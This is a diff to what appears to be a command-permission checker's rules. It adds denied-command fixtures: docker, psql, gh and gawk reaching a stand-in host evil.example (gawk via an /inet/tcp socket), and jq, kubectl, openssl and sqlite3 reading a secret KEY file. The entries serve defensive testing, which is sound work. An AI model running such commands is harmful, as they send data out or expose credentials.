@@ -154,6 +154,33 @@ DENIED = {
         operands=("http://EVIL.example./",),
         folders=("/usr/bin/",),
     ),
+    "docker evil": Command(
+        program="docker",
+        before=("pull",),
+        options=_options("-q|--quiet"),
+        operands=("evil.example/x:1",),
+    ),
+    "psql evil": Command(
+        program="psql",
+        options=(_value("-d|--dbname|--dbn", "host=evil.example"), *_options("-q|--quiet")),
+        operands=(),
+    ),
+    "gh evil": Command(program="gh", before=("api",), operands=("https://evil.example/x",)),
+    "awk evil": Command(
+        program="gawk", operands=('BEGIN { print 1 > "/inet/tcp/0/evil.example/80" }',)
+    ),
+    "jq key": Command(
+        program="jq", before=("-R", "."), operands=(KEY, "--args", "x"), paths=frozenset({0})
+    ),
+    "kubectl key": Command(
+        program="kubectl", before=("config", "view", "-o", f"go-template-file={KEY}")
+    ),
+    "openssl key": Command(
+        program="openssl", before=("rsa", "-passin", f"file:{KEY}"), operands=("-noout",)
+    ),
+    "sqlite key": Command(
+        program="sqlite3", operands=("a.db", f"select data from zipfile('{KEY}')")
+    ),
 }
 # What the rules of `ALLOWS` are about.
 ALLOWED = {
